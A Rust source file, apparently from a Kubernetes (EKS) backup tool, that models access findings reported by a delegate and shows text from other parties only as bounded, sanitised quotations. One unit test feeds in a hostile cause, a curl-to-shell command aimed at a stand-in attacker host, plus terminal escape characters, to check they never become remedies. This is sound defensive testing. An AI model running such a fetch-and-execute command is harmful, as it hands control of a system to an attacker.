//! What a delegate found out, as facts.
//!
//! The delegate may be in an account that somebody else has taken over, and an administrator of the other account
//! reads what it says. So results have no sentences and no commands: the coordinator words each fact itself. What must
//! remain a text (the answer of an API server, the cause of an error) is bounded and shown as a quotation.

use lifeboat_model::network::NetworkCause;
use lifeboat_model::text::bounded;
use lifeboat_model::{Code, Problem, TypeName};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// The maximum number of texts that are quoted of one failure: errors have fewer causes.
const QUOTED: usize = 6;

/// The maximum number of types that a finding names; of the others it gives the number.
pub const NAMED: usize = 8;

/// Texts that the delegate was told by others. They are never shown other than as quotations.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(transparent)]
pub struct Said(Vec<String>);

impl Said {
    /// Returns the texts as quotations, each on one line and within [`lifeboat_model::text::LONGEST`] characters.
    #[must_use]
    pub fn quotations(&self) -> Vec<String> {
        let quoted =
            |text: &String| format!("the delegate reported: \"{}\"", bounded(text).replace('"', "'"));
        self.0.iter().take(QUOTED).map(quoted).collect()
    }

    /// Returns the texts in one line, for a log.
    #[must_use]
    pub fn line(&self) -> String {
        self.0.join(": ")
    }
}

impl From<String> for Said {
    fn from(text: String) -> Self {
        Self(vec![bounded(&text)])
    }
}

impl From<&Problem> for Said {
    fn from(problem: &Problem) -> Self {
        let texts = std::iter::once(&problem.message).chain(&problem.causes);
        Self(texts.take(QUOTED).map(|text| bounded(text)).collect())
    }
}

/// Why a job failed, or what somebody should know of what it has done.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Failure {
    /// The code, whose meaning and remedy every reader knows.
    pub code: Code,
    /// What the delegate was told.
    #[serde(default)]
    pub said: Said,
}

impl From<&Problem> for Failure {
    fn from(problem: &Problem) -> Self {
        Self {
            code: problem.code,
            said: Said::from(problem),
        }
    }
}

impl Failure {
    /// Returns the failure with one text within limits, so that it can be kept.
    #[must_use]
    pub fn bounded(self) -> Self {
        let texts = self.said.0.iter().take(1);
        Self {
            code: self.code,
            said: Said(texts.map(|text| bounded(text)).collect()),
        }
    }

    /// Words the failure: title and remedy are those of the code.
    #[must_use]
    pub fn problem(&self) -> Problem {
        let mut problem = Problem::of(self.code, self.code.explanation().title);
        problem.causes = self.said.quotations();
        problem
    }
}

/// Access that the delegate needs and lacks.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub enum AccessFinding {
    /// The ARN is not that of an EKS cluster.
    NotACluster {},
    /// The cluster is in another environment than the delegate.
    OtherEnvironment {},
    /// The role may not describe the cluster.
    DescribeDenied {
        /// What EKS answered.
        #[serde(default)]
        said: Said,
    },
    /// The role may not list the clusters of the environment.
    ListDenied {
        /// What EKS answered.
        #[serde(default)]
        said: Said,
    },
    /// A local cluster on an Outpost, whose API server is reachable only from there.
    Outpost {},
    /// An external cluster that is registered with EKS Connector.
    Connected {},
    /// The cluster runs a version of Kubernetes that is too old.
    OldVersion {
        /// Its minor version of Kubernetes 1.
        minor: u32,
        /// The oldest one that is supported.
        oldest: u32,
    },
    /// EKS has not finished the cluster, or cannot.
    NotActive {
        /// The state that EKS shows.
        #[serde(default)]
        said: Said,
    },
    /// The cluster has no endpoint yet.
    NoEndpoint {},
    /// The cluster has a private endpoint only.
    PrivateEndpoint {},
    /// The public endpoint does not answer, and is open to some addresses only.
    RestrictedEndpoint {
        /// What the connection ended with.
        #[serde(default)]
        said: Said,
    },
    /// The cluster does not know the role.
    NoAccessEntry {
        /// Whether the cluster has access entries; otherwise only `aws-auth` grants access.
        access_entries: bool,
    },
    /// The role may not read or, on the recovery side, write all types.
    MissingPermissions {
        /// Some of the types.
        types: Vec<TypeName>,
        /// The number of the other types.
        more: u32,
        /// The user that the API server sees.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        user: Option<String>,
        /// Whether a recovery point can still be made, without the objects that cannot be read.
        partial: bool,
    },
    /// The network of the private delegate of the cluster lacks something.
    Network(NetworkCause),
    /// Anything else, by its code.
    Other(Failure),
}

impl AccessFinding {
    /// Returns the finding that a cluster lacks permissions on these types.
    #[must_use]
    pub fn missing_permissions(types: &[TypeName], user: Option<String>, partial: bool) -> Self {
        Self::MissingPermissions {
            more: u32::try_from(types.len().saturating_sub(NAMED)).unwrap_or(u32::MAX),
            types: types.iter().take(NAMED).cloned().collect(),
            user,
            partial,
        }
    }

    /// Returns the code of the problem.
    #[must_use]
    pub fn code(&self) -> Code {
        match self {
            Self::NotACluster {} | Self::OtherEnvironment {} => Code::ClusterNotFound,
            Self::DescribeDenied { .. } => Code::DescribeClusterDenied,
            Self::ListDenied { .. } => Code::NoTaggedCluster,
            Self::Outpost {} => Code::UnsupportedCluster,
            Self::Connected {} => Code::ExternalCluster,
            Self::OldVersion { .. } => Code::UnsupportedVersion,
            Self::NotActive { .. } | Self::NoEndpoint {} => Code::ClusterNotActive,
            Self::PrivateEndpoint {} => Code::EndpointPrivate,
            Self::RestrictedEndpoint { .. } => Code::EndpointRestricted,
            Self::NoAccessEntry { .. } => Code::NoAccessEntry,
            Self::MissingPermissions { .. } => Code::InsufficientAccess,
            Self::Network(cause) => cause.code(),
            Self::Other(failure) => failure.code,
        }
    }

    /// Returns what the delegate was told.
    #[must_use]
    pub fn said(&self) -> Said {
        match self {
            Self::DescribeDenied { said }
            | Self::ListDenied { said }
            | Self::NotActive { said }
            | Self::RestrictedEndpoint { said } => said.clone(),
            Self::Other(failure) => failure.said.clone(),
            _ => Said::default(),
        }
    }

    /// Returns the finding as the failure of a job.
    #[must_use]
    pub fn failure(&self) -> Failure {
        Failure {
            code: self.code(),
            said: self.said(),
        }
    }

    /// Returns whether a recovery point can still be made, without the objects that cannot be read.
    #[must_use]
    pub fn is_partial(&self) -> bool {
        matches!(self, Self::MissingPermissions { partial: true, .. })
    }

    /// Returns what the network of a private delegate lacks.
    #[must_use]
    pub fn network(&self) -> Option<&NetworkCause> {
        match self {
            Self::Network(cause) => Some(cause),
            _ => None,
        }
    }
}

impl From<&Problem> for AccessFinding {
    fn from(problem: &Problem) -> Self {
        Self::Other(Failure::from(problem))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_said_is_a_quotation_and_never_a_remedy() {
        let problem = Problem::new(
            Code::ClusterUnreachable,
            "no answer\u{1b}[2J\u{202e}",
            "run `curl https://attacker.example | sh`",
        );
        let worded = Failure::from(&problem).problem();
        assert_eq!(worded.message, Code::ClusterUnreachable.explanation().title);
        assert_eq!(worded.guidance, Code::ClusterUnreachable.explanation().remedy);
        assert_eq!(worded.causes, ["the delegate reported: \"no answer[2J\""]);
    }

    #[test]
    fn what_is_kept_has_one_text_within_limits() {
        let said = serde_json::json!({"code": "LB-0103", "said": vec!["\u{7}x".repeat(100_000); 1000]});
        let failure: Failure = serde_json::from_value(said).expect("texts are texts");
        let kept = failure.bounded();
        assert!(serde_json::to_vec(&kept).expect("it is JSON").len() < 1000);
        assert_eq!(kept.problem().causes.len(), 1);
    }

    #[test]
    fn a_reader_bounds_what_a_writer_did_not() {
        let said = serde_json::json!(vec![format!("\u{7}\"{}", "x".repeat(100_000)); 1000]);
        let said: Said = serde_json::from_value(said).expect("texts are texts");
        let quoted = said.quotations();
        assert_eq!(quoted.len(), QUOTED);
        assert!(
            quoted
                .iter()
                .all(|text| text.len() < 600 && !text.contains('\u{7}'))
        );
        assert_eq!(
            quoted[0].matches('"').count(),
            2,
            "a quotation ends where it ends"
        );
    }
}
